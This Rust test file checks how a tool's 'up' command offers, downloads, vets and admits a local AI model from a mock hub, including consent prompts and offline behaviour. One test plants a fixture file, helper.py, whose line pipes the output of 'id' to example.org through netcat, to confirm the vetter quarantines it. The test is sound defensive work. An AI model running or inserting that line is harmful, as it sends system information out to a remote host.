//! What `freehold up` offers on a terminal, with a hub on this machine.

use std::{path::Path, process::Command};

use freehold_testkit::hub::{File, Hub, commit};
use serde_json::json;

use crate::harness::{Server, program, run, search_path, witness};

#[test]
fn a_yes_pulls_vets_admits_and_the_next_start_serves() {
    let home = tempfile::tempdir().expect("a folder");
    let hub = Hub::serve(MODEL, &house_small()).expect("a port");
    let said = terminal(
        home.path(),
        &hub.endpoint(),
        &[],
        &[["signed off by", ""], ["[y/N]", "y\n"], ["from that start on", ""]],
    );
    for part in [
        "Qwen/Qwen3-0.6B  from http",
        "apache-2.0, as the card declares; not checked",
        "MB",
        "Whoever passes it on gives the licence along",
        "6 clean",
        "is admitted by",
    ] {
        assert!(said.contains(part), "{part}\n{said}");
    }
    let asked =
        hub.state().seen.iter().filter(|seen| seen.headers.contains_key("authorization")).count();
    assert_eq!(asked, 0, "no token is anybody's business here");
    let folder = home.path().join(format!("data/models/snapshots/Qwen--Qwen3-0.6B@{}", commit(1)));
    let server = Server::start(home.path(), &["--model", &folder.display().to_string()]);
    let models = server.ready["models"].as_array().expect("a list");
    assert_eq!(models.len(), 3, "{models:?}");
    let name = models.iter().find_map(|name| name.as_str().filter(|name| name.starts_with("Qwen")));
    let answer = server.say(name.expect("its name"), "hello").expect("an answer");
    assert_eq!(answer.status, 200, "{}", answer.body);
}

#[test]
fn a_no_is_kept_and_nothing_is_fetched() {
    let home = tempfile::tempdir().expect("a folder");
    let hub = Hub::serve(MODEL, &house_small()).expect("a port");
    let said =
        terminal(home.path(), &hub.endpoint(), &[], &[["[y/N]", "\n"], ["Whenever you like", ""]]);
    assert!(said.contains("freehold pull Qwen/Qwen3-0.6B --dir"), "{said}");
    assert_eq!(hub.asked("/resolve/"), 0);
    let before = hub.asked("");
    let said = terminal(home.path(), &hub.endpoint(), &[], &[[READY, ""]]);
    assert!(!said.contains("Qwen"), "{said}");
    assert_eq!(hub.asked(""), before);
}

#[test]
fn what_is_not_clean_is_not_admitted() {
    let home = tempfile::tempdir().expect("a folder");
    let mut files = house_small();
    files.push(("helper.py", File::text("import os\nos.system('id | nc example.org 80')\n")));
    let hub = Hub::serve(MODEL, &files).expect("a port");
    let said = terminal(
        home.path(),
        &hub.endpoint(),
        &[],
        &[["[y/N]", "y\n"], ["stays in quarantine", ""]],
    );
    assert!(!said.contains("is admitted by"), "{said}");
    let data = home.path().join("data").display().to_string();
    let list = run(home.path(), &["vet", "list", "--json", "--dir", &data]);
    assert!(!list.stdout.contains("Qwen"), "{}", list.stdout);
}

/// Without a terminal, for a script, where hubs are not to be asked, and with a model already.
#[test]
fn nobody_is_asked_who_did_not_come_for_it() {
    let home = tempfile::tempdir().expect("a folder");
    let hub = Hub::serve(MODEL, &house_small()).expect("a port");
    drop(Server::start(home.path(), &[]));
    let said = terminal(home.path(), &hub.endpoint(), &[("HF_HUB_OFFLINE", "1")], &[[READY, ""]]);
    assert!(!said.contains("Qwen"), "{said}");
    assert_eq!(hub.asked(""), 0);
    // A port on which nobody listens: silence, and a later start asks again.
    let gone = hub.endpoint();
    drop(hub);
    let said = terminal(home.path(), &gone, &[], &[[READY, ""]]);
    assert!(!said.contains("Qwen"), "{said}");
    assert!(!home.path().join("data/offered").exists());
}

/// Everything that `up` shows on a terminal, until Ctrl-C, which must end it in order.
fn terminal(home: &Path, endpoint: &str, more: &[(&str, &str)], steps: &[[&str; 2]]) -> String {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/witness/terminal.py");
    let mut command = Command::new(witness("FREEHOLD_PYTHON"));
    command.env_clear().env("HOME", home).env("PATH", search_path()).env("HF_ENDPOINT", endpoint);
    command.envs(more.iter().copied()).arg(script).arg(json!(steps).to_string()).arg("3");
    command.arg(program(home).get_program()).args(["up", "--listen", "127.0.0.1:0"]);
    command.args(["--console", "127.0.0.1:0", "--dir"]).arg(home.join("data"));
    let output = command.output().expect("Python can be started");
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success() && text.ends_with("exit 0\n"), "{text}{errors}");
    text
}

/// The smaller house model as a repository.
fn house_small() -> Vec<(&'static str, File)> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../models/house-small");
    let read = |name: &str| std::fs::read(folder.join(name)).expect("a file of the model");
    let text = |name| (name, File { listed: read(name), given: read(name), lfs: false });
    let mut files: Vec<_> =
        ["LICENSE", "config.json", "tokenizer.json", "tokenizer_config.json"].map(text).into();
    files.push(("README.md", File::text("---\nlicense: apache-2.0\n---\n# A model\n")));
    files.push(("model.safetensors", File::large(&read("model.safetensors"))));
    files
}

const MODEL: &str = "Qwen/Qwen3-0.6B";
/// The last thing that `up` says of itself.
const READY: &str = "Ctrl-C stops it in order.";
